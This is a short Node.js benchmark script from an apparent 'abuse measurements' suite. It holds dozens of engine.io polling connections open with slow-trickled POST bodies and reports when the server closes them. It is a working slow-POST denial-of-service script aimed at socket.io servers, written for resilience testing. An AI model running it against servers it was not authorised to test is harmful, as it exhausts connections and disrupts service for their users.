// Attack 3 of the abuse measurements: long-polling POSTs whose body
// trickles in one byte every 2 s. Prints how many were closed by the
// server and when, as JSON.
//
//   node bench/abuse/slow_posts.mjs <host> <port> [connections=60]
import net from "node:net";
import { sleep } from "./lib.mjs";

const [host, port, count = "60"] = process.argv.slice(2);
// One engine.io session each, as separate clients would have.
const sids = [];
for (let i = 0; i < Number(count); i++) {
  const open = await fetch(`http://${host}:${port}/socket.io/?EIO=4&transport=polling`);
  sids.push(JSON.parse((await open.text()).slice(1)).sid);
}
const started = Date.now();
const closedAt = [];
const sockets = sids.map((sid) => {
  const s = net.connect(Number(port), host, () => {
    s.ready = true;
    s.write(`POST /socket.io/?EIO=4&transport=polling&sid=${sid} HTTP/1.1\r\nhost: ${host}\r\ncontent-type: text/plain\r\ncontent-length: 1000\r\n\r\n4`);
  });
  s.on("error", () => {});
  // The server's end of the connection (FIN), or a reset.
  let closed = false;
  const gone = () => {
    if (!closed) closedAt.push(Date.now() - started);
    closed = true;
  };
  s.on("end", gone);
  s.on("close", gone);
  s.on("data", () => {});
  return s;
});
while (Date.now() - started < 70_000 && closedAt.length < sockets.length) {
  for (const s of sockets) if (s.ready && !s.destroyed) s.write("0");
  await sleep(2000);
}
for (const s of sockets) s.destroy();
closedAt.sort((a, b) => a - b);
console.log(JSON.stringify({ connections: sockets.length, closed_by_server: closedAt.length, first_closed_ms: closedAt[0], last_closed_ms: closedAt[closedAt.length - 1] }));
process.exit(0);
